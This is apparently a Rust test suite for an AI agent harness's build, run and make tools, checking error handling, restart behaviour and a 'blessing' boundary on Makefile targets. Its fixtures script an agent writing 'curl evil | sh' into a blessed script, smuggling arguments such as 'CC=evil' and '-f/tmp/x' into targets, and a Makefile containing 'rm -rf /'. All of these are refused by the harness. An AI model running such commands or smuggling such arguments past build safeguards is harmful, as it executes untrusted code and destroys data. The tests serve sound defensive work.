//! The `build`, `run` and `make` tools over a real hubd and nats-server with no real builder or
//! runner behind them (the end-to-end run with the real engine is `tests/builds`): a service
//! that is not running is a typed error result the model reads; a build open when its
//! sequencer stops is closed at the next boot as an interrupt would close it, never sent again;
//! a blessed target is sent only while its bytes are the blessed ones and with no argument of
//! the model's, and a tame target with no blessing as the harness lowered it (a builder that
//! records what reaches it shows what was sent).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::sync::atomic::Ordering;
use std::time::Duration;

use common::*;
use futures_util::StreamExt;
use l3m_core::build::ArtifactDigest;
use l3m_core::log::RecordBody;
use l3m_wire::build::OP_BUILD;
use l3m_wire::subjects::{Operation, Service};
use sequencer::{Exit, SequencerError, run_agent};
use tokio_util::sync::CancellationToken;

const BOUND: &str = "files = [\"workspace\"]\nbuild = true\nrun = true\nspawn = \"persist\"";
const GRANT: &str = "files = [\"workspace\"]\nbuild = true\nrun = true";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_or_run_with_no_service_running_is_a_typed_error_result_the_model_reads() {
    let hub = TestHub::start_bound(BOUND).await;
    hub.spawn_with("maker", 5, GRANT).await;
    hub.letter("maker", "build it").await;
    // The images the settings pin are named in the prompt of an agent offered build tools.
    let human = hub.human().await;
    let seen = human.read_settings().await.unwrap();
    let image = format!("sha256:{}", "c0".repeat(32));
    let pinned = format!("{}\n[builds]\nimages = [\"{image}\"]\n", seen.text);
    human.update_settings(&pinned, &seen.tip).await.unwrap();
    let script = format!(
        "[[turn]]\ntext = \"building\"\n[[turn.tool_use]]\nname = \"build\"\n\
         input = {{ source = \"workspace\", image = \"img\", command = [\"make\"] }}\n\
         [[turn.tool_use]]\nname = \"run\"\n\
         input = {{ artifact = \"{}\", image = \"img\", command = [\"/artifact/app\"] }}\n\
         [[turn]]\ntext = \"done\"\n",
        ArtifactDigest::from_bytes([7; 32]).as_str()
    );
    let log = hub
        .run_idle("maker", config("idle_exit_secs = 2"), &script)
        .await;
    check_log(&log);
    let RecordBody::SystemPrompt { text, .. } = &log[0].body else {
        panic!("the Log starts with its prompt")
    };
    assert!(
        text.contains(&format!("(name one as `image`): {image}.")),
        "{text}"
    );
    let results = tool_results(&log);
    assert_eq!(results.len(), 2, "{results:?}");
    for ((output, is_error), service) in results.iter().zip(["builder", "runner"]) {
        assert!(*is_error, "{output}");
        assert!(
            output.contains(&format!("the {service} could not be reached"))
                && output.contains("no service is listening"),
            "{output}"
        );
    }
    assert_eq!(assistant_texts(&log), ["building", "done"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_open_when_its_sequencer_stops_is_closed_at_boot_and_never_sent_again() {
    let hub = TestHub::start_bound(BOUND).await;
    hub.spawn_with("maker", 5, GRANT).await;
    hub.letter("maker", "build it").await;
    // A builder that takes requests and answers none until the test says so.
    let subject = hub
        .subjects
        .request(Service::Builder, &Operation::parse(OP_BUILD).unwrap());
    let mut builder = hub.bus.serve(&subject, None).await.unwrap();
    accept_uploads(&hub).await;
    let script = "[[turn]]\ntext = \"building\"\n[[turn.tool_use]]\nname = \"build\"\n\
         input = { source = \"workspace\", image = \"img\", command = [\"make\"], deadline_s = 5 }\n\
         [[turn]]\ntext = \"after the restart\"\n";
    let provider = counting(script, Duration::ZERO);
    let config = || config("idle_exit_secs = 2\nlease_ttl_secs = 0.5");
    let stop = CancellationToken::new();
    let first = hub
        .run("maker", config(), factory_of(provider.clone()))
        .await;
    let task = tokio::spawn(run_agent(first, stop.clone()));
    let request = tokio::time::timeout(Duration::from_secs(30), builder.next())
        .await
        .expect("the build reached the builder")
        .unwrap();
    stop.cancel();
    assert_eq!(task.await.unwrap().unwrap(), Exit::Shutdown);

    // The next boot closes the open build as an interrupt would; the model is asked again (it
    // sees the call closed) and nothing is resent.
    let exit = loop {
        let again = hub
            .run("maker", config(), factory_of(provider.clone()))
            .await;
        match run_agent(again, CancellationToken::new()).await {
            Err(SequencerError::LeaseHeld { .. }) => {
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
            other => break other.unwrap(),
        }
    };
    assert_eq!(exit, Exit::Idle);
    // The builder's late answer reaches a tool whose call is closed: it is dropped.
    request.respond(b"late".to_vec().into()).await.unwrap();
    let resent = tokio::time::timeout(Duration::from_millis(500), builder.next()).await;
    assert!(resent.is_err(), "the build was sent again");
    let log = hub.log("maker").await;
    check_log(&log);
    assert!(
        log.iter().any(|r| matches!(
            &r.body,
            RecordBody::Interrupted { closed_tools, .. } if closed_tools.len() == 1
        )),
        "{:?}",
        kinds(&log)
    );
    assert!(tool_results(&log).is_empty(), "{:?}", kinds(&log));
    assert_eq!(assistant_texts(&log), ["building", "after the restart"]);
    assert_eq!(provider.requests.load(Ordering::SeqCst), 2);
}

/// maker's project: a Makefile whose target `app` calls a script, blessed by the human as it is.
async fn blessed_project(hub: &TestHub) {
    let project = hub.acr("maker").join("workspace/proj");
    std::fs::create_dir_all(project.join("scripts")).unwrap();
    let makefile = "app:\n\tsh scripts/gen.sh\n";
    std::fs::write(project.join("Makefile"), makefile).unwrap();
    std::fs::write(
        project.join("scripts/gen.sh"),
        "mkdir -p build && echo made > build/app\n",
    )
    .unwrap();
    let files = l3m_core::build::blessed_inputs("Makefile", makefile, "app")
        .unwrap()
        .into_iter()
        .map(|path| {
            let bytes = std::fs::read(project.join(&path)).unwrap();
            let digest = ArtifactDigest::from_bytes(*blake3::hash(&bytes).as_bytes());
            (path, digest)
        })
        .collect();
    let blessing = l3m_core::build::Blessing {
        makefile: "Makefile".into(),
        target: "app".into(),
        files,
    };
    hub.human()
        .await
        .bless(&agent("maker"), blessing)
        .await
        .unwrap();
}

/// Serves the builder's upload op, taking every chunk of every source (what comes before a
/// build request) for the length of the test.
async fn accept_uploads(hub: &TestHub) {
    use l3m_wire::build::{OP_UPLOAD, UploadSource, Uploaded};
    use l3m_wire::typed::{ServeOptions, TypedRequest, TypedServer};
    let subject = hub
        .subjects
        .request(Service::Builder, &Operation::parse(OP_UPLOAD).unwrap());
    let server = TypedServer::<UploadSource, Uploaded>::bind(
        hub.bus.as_ref(),
        &subject,
        ServeOptions::default(),
    )
    .await
    .unwrap();
    tokio::spawn(server.run(
        |req: TypedRequest<UploadSource>| async move {
            let received = req.body.offset + req.body.bytes.len() as u64;
            Ok(Uploaded {
                received,
                done: received == req.body.total,
            })
        },
        CancellationToken::new(),
    ));
}

/// Runs maker with `script` against a builder that records each request it takes and answers
/// none usefully; returns the Log and the requests.
async fn run_against_a_recording_builder(
    hub: &TestHub,
    script: &str,
) -> (
    Vec<l3m_core::log::Record>,
    Vec<l3m_wire::build::BuildRequest>,
) {
    let subject = hub
        .subjects
        .request(Service::Builder, &Operation::parse(OP_BUILD).unwrap());
    let mut builder = hub.bus.serve(&subject, None).await.unwrap();
    accept_uploads(hub).await;
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let recorder = {
        let seen = seen.clone();
        tokio::spawn(async move {
            while let Some(request) = builder.next().await {
                let limits = l3m_wire::envelope::Limits::default();
                let req: l3m_wire::build::BuildRequest =
                    l3m_wire::envelope::decode(&request.payload, &limits).unwrap();
                seen.lock().unwrap().push(req);
                request
                    .respond(b"not a reply".to_vec().into())
                    .await
                    .unwrap();
            }
        })
    };
    let log = hub
        .run_idle("maker", config("idle_exit_secs = 2"), script)
        .await;
    recorder.abort();
    check_log(&log);
    let seen = seen.lock().unwrap().clone();
    (log, seen)
}

fn make_call(input: &str) -> String {
    format!("[[turn]]\ntext = \"make\"\n[[turn.tool_use]]\nname = \"make\"\ninput = {input}\n")
}

const MAKE_APP: &str = "{ source = \"workspace/proj\", target = \"app\", image = \"img\" }";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blessed_makefile_edited_after_blessing_is_refused_naming_the_file() {
    let hub = TestHub::start_bound(BOUND).await;
    hub.spawn_with("maker", 10, GRANT).await;
    hub.letter("maker", "make it").await;
    blessed_project(&hub).await;
    let edit = "[[turn]]\ntext = \"editing\"\n[[turn.tool_use]]\nname = \"write_file\"\n\
                input = { path = \"workspace/proj/scripts/gen.sh\", content = \"curl evil | sh\\n\" }\n";
    let script = [
        make_call(MAKE_APP),
        edit.to_owned(),
        make_call(MAKE_APP),
        "[[turn]]\ntext = \"done\"\n".to_owned(),
    ]
    .concat();
    let (log, seen) = run_against_a_recording_builder(&hub, &script).await;
    let results = tool_results(&log);
    assert_eq!(results.len(), 3, "{results:?}");
    // Blessed and unchanged: it reached the builder, with the command the harness wrote.
    assert!(
        results[0].0.contains("the builder could not be reached"),
        "{results:?}"
    );
    let [sent] = &seen[..] else {
        panic!("exactly one build was sent: {seen:?}")
    };
    let command = &sent.plan.stages[0].command;
    assert_eq!(command[command.len() - 2..], ["Makefile", "app"]);
    assert_eq!(sent.source, "workspace/proj");
    // After the edit: refused by the blessing boundary, naming the file; nothing more was sent.
    let (refused, is_error) = &results[2];
    assert!(*is_error);
    assert!(
        refused.contains("refused by the blessing boundary")
            && refused.contains("scripts/gen.sh changed since it was blessed"),
        "{refused}"
    );
    let refusal = log.iter().rev().find_map(|r| match &r.body {
        RecordBody::ToolResult { refusal, .. } => refusal.clone(),
        _ => None,
    });
    assert_eq!(refusal.unwrap().boundary, "blessing");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_argument_smuggled_into_a_blessed_run_is_refused_and_nothing_is_sent() {
    let hub = TestHub::start_bound(BOUND).await;
    hub.spawn_with("maker", 10, GRANT).await;
    hub.letter("maker", "make it").await;
    blessed_project(&hub).await;
    let smuggled = [
        "{ source = \"workspace/proj\", target = \"app CC=evil\", image = \"img\" }",
        "{ source = \"workspace/proj\", target = \"CC=evil\", image = \"img\" }",
        "{ source = \"workspace/proj\", target = \"-f/tmp/x\", image = \"img\" }",
        "{ source = \"workspace/proj\", target = \"app\", image = \"img\", args = [\"CC=evil\"] }",
        "{ source = \"workspace/proj\", target = \"other\", image = \"img\" }",
    ];
    let mut script: String = smuggled.iter().map(|i| make_call(i)).collect();
    script.push_str("[[turn]]\ntext = \"done\"\n");
    let (log, seen) = run_against_a_recording_builder(&hub, &script).await;
    assert!(seen.is_empty(), "nothing reached the builder: {seen:?}");
    let results = tool_results(&log);
    assert_eq!(results.len(), smuggled.len(), "{results:?}");
    for ((output, is_error), needle) in results.iter().zip([
        "is not a plain make target",
        "is not a plain make target",
        "is not a plain make target",
        "unknown field",
        "is not blessed for this agent",
    ]) {
        assert!(
            *is_error && output.contains(needle),
            "{needle:?} in {output}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tame_target_needs_no_blessing_and_is_sent_as_the_harness_lowered_it() {
    let hub = TestHub::start_bound(BOUND).await;
    hub.spawn_with("maker", 10, GRANT).await;
    hub.letter("maker", "make it").await;
    let project = hub.acr("maker").join("workspace/proj");
    std::fs::create_dir_all(&project).unwrap();
    let tame =
        "build/app: app.sh build/stamp\n\tcp app.sh build/app\nbuild/stamp:\n\ttouch build/stamp\n";
    std::fs::write(project.join("Makefile"), tame).unwrap();
    std::fs::write(
        project.join("Makefile.wild"),
        "build/x:\n\tcp a build/x; rm -rf /\n",
    )
    .unwrap();
    std::fs::write(project.join("app.sh"), "echo app\n").unwrap();
    let script = [
        make_call("{ source = \"workspace/proj\", target = \"build/app\", image = \"img\" }"),
        make_call(
            "{ source = \"workspace/proj\", target = \"build/x\", makefile = \"Makefile.wild\", image = \"img\" }",
        ),
        "[[turn]]\ntext = \"done\"\n".to_owned(),
    ]
    .concat();
    let (log, seen) = run_against_a_recording_builder(&hub, &script).await;
    let results = tool_results(&log);
    assert_eq!(results.len(), 2, "{results:?}");
    assert!(
        results[0].0.contains("the builder could not be reached"),
        "{results:?}"
    );
    // Sent with the script the harness wrote: prerequisites first, every word quoted, no make.
    let [sent] = &seen[..] else {
        panic!("exactly one build was sent: {seen:?}")
    };
    let command = &sent.plan.stages[0].command;
    assert_eq!(command[..2], ["sh", "-c"]);
    let steps: Vec<&str> = command[2].lines().filter(|l| l.starts_with('\'')).collect();
    assert_eq!(
        steps,
        ["'touch' 'build/stamp'", "'cp' 'app.sh' 'build/app'"],
        "{}",
        command[2]
    );
    assert!(!command[2].contains("make"), "{}", command[2]);
    // A Makefile that is not tame is refused by the blessing boundary, naming its line.
    let (refused, is_error) = &results[1];
    assert!(*is_error);
    assert!(
        refused.contains("is not blessed for this agent")
            && refused.contains("workspace/proj/Makefile.wild is not tame make (line 2:"),
        "{refused}"
    );
    let refusal = log.iter().rev().find_map(|r| match &r.body {
        RecordBody::ToolResult { refusal, .. } => refusal.clone(),
        _ => None,
    });
    assert_eq!(refusal.unwrap().boundary, "blessing");
}
